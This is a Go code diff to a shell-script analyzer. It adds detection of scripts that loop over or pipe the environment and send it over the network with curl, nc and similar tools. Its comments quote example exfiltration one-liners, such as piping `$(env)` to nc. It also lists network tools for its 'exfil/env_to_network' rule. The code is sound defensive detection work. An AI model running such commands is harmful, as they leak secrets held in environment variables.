@@ -36,7 +36,28 @@ func (a *analyzer) forLoop(fc *syntax.ForClause) bool {
 	case a.params != nil:
 		items = a.params // `for x; do`: the positional parameters
 	}
+	if len(items) > 0 && envOutput(strings.Join(items, " ")) {
+		// `for l in $(env); do curl -d "$l" URL; done`: each word is part of the environment
+		// (issue 26, det69)
+		a.envLoop([]string{wi.Name.Value}, fc.Do)
+		return true
+	}
 	return a.iterate([]string{wi.Name.Value}, items, fc.Do, false)
+}
+
+// envLoop judges a loop's body once with each of names holding what `$(env)` stands for: a
+// loop over the environment's lines or words (readLoop, forLoop; det68, det69).
+func (a *analyzer) envLoop(names []string, body []*syntax.Stmt) {
+	if a.work++; a.work > maxWork {
+		a.res.Incomplete = true
+		return
+	}
+	for _, n := range names {
+		a.vars[n] = "$(env)"
+	}
+	for _, st := range body {
+		a.stmt(st)
+	}
 }
 
 // iterate judges body once for each item with names assigned as read (split) or as a for loop
@@ -321,6 +342,11 @@ func (a *analyzer) given(argv []string, text string) {
 		}
 	case "at", "batch":
 		a.line(text, a.depth+1) // at(1) runs the commands it reads with sh
+	case "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "openssl":
+		if envSubst.MatchString(text) {
+			// `nc H P <<< "$(env)"`, `nc H P <<< "$l"` in a loop over env (det69)
+			a.add("exfil/env_to_network", "sends the environment over the network", strings.Join(argv, " "), 0.95)
+		}
 	case "sqlite3":
 		a.sqliteDot(text) // carriers.go
 	case "make", "gmake":
@@ -360,16 +386,7 @@ func (a *analyzer) readLoop(s *syntax.Stmt, fed []string) bool {
 		// `while read l; do curl -d "$l" URL; done < <(env)`, `env | while read l; …`: each
 		// line the loop reads is part of the environment, so every variable read holds what
 		// `$(env)` stands for, judged once (issue 26, det68).
-		if a.work++; a.work > maxWork {
-			a.res.Incomplete = true
-			return true
-		}
-		for _, n := range names {
-			a.vars[n] = items[0]
-		}
-		for _, st := range wc.Do {
-			a.stmt(st)
-		}
+		a.envLoop(names, wc.Do)
 		return true
 	}
 	return a.iterate(names, items, wc.Do, true)
@@ -379,6 +396,64 @@ func (a *analyzer) readLoop(s *syntax.Stmt, fed []string) bool {
 // (`$(env)`, `$(printenv)`, `$(export -p)`: envSubst, the whole of t).
 func envOutput(t string) bool {
 	return strings.HasPrefix(t, "$(") && envSubst.FindString(t) == t
+}
+
+// envStage reports whether a pipeline stage (argv; nil for a loop, a block or a subshell)
+// prints the environment or part of it: a command that dumps it (envOutput), or a filter
+// (envFilter) given what the stage before printed when that was the environment (prevEnv).
+func envStage(argv []string, prevEnv bool) bool {
+	if len(argv) == 0 {
+		return false
+	}
+	if envOutput("$(" + strings.Join(argv, " ") + ")") {
+		return true
+	}
+	return prevEnv && envFilter[base(argv[0])]
+}
+
+// envFilter are the commands that print some of the lines or fields they read and nothing
+// else: `env | grep AWS`, `printenv | cut -d= -f2`, `env | sort`.
+var envFilter = set("grep", "egrep", "fgrep", "rg", "sort", "uniq", "cut", "sed", "awk", "gawk", "mawk", "head", "tail", "tr", "cat", "tac", "column")
+
+// declDump reports whether a declaration builtin prints the variables instead of setting them:
+// `export`, `export -p`, `declare -x`, `declare -p`, `typeset` alone (bash(1) SHELL BUILTIN
+// COMMANDS).
+func declDump(c *syntax.DeclClause) bool {
+	if c.Variant == nil {
+		return false
+	}
+	switch c.Variant.Value {
+	case "export", "declare", "typeset":
+	default:
+		return false
+	}
+	for _, as := range c.Args {
+		if !as.Naked || as.Name != nil || as.Value == nil {
+			return false
+		}
+		switch as.Value.Lit() {
+		case "-p", "-x", "-px", "-xp":
+		default:
+			return false
+		}
+	}
+	return true
+}
+
+// envPipe reports whether a pipeline in a command substitution prints the environment or part
+// of it (envStage through every stage): `$(env | grep KEY)`.
+func (a *analyzer) envPipe(stages []*syntax.Stmt) bool {
+	env := false
+	for _, st := range stages {
+		ce, ok := st.Cmd.(*syntax.CallExpr)
+		if !ok {
+			return false
+		}
+		if env = envStage(unwrapRoot(a.fields(ce.Args)), env); !env {
+			return false
+		}
+	}
+	return env
 }
 
 // setParams judges `set -- WORDS` (and `set WORDS` whose first word is no option): the
